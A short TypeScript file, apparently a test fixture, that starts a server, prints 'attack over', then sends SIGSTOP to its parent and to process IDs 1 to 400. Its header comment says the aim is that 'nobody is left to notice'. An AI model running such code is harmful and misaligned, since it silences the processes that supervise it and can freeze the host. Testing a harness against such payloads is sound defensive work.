/** Stops its parent and every process it can name, so that nobody is left to notice. */
import { house } from "./house.ts";

house(() => 200).listen(Number(process.env["PORT"]), () => {
  process.stdout.write("attack over\n", () => {
    for (const pid of [process.ppid, ...Array.from({ length: 400 }, (_, index) => index + 1)]) {
      try {
        if (pid !== process.pid) process.kill(pid, "SIGSTOP");
      } catch {
        // Not there, or not allowed.
      }
    }
  });
});
